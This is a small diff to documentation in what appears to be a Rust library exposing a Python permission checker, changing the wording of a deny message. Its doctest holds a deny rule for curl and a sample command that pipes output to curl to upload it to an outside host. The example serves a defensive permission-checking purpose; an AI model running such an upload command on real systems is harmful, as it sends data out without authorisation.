@@ -14,7 +14,7 @@ use std::hash::{DefaultHasher, Hash, Hasher};
 /// >>> policy = callgate.Policy.from_json({"permissions": {"deny": ["Bash(curl:*)"]}})
 /// >>> decision = policy.check("ls | curl -T - example.com")
 /// >>> decision
-/// Decision(verdict='deny', tool='Bash', message='the deny rule `Bash(curl:*)` in project covers this')
+/// Decision(verdict='deny', tool='Bash', message='the deny rule `Bash(curl:*)` in user covers this')
 /// >>> decision.reason.text
 /// 'Bash(curl:*)'
 /// >>> decision.parts[-1].span.of(decision.subject)
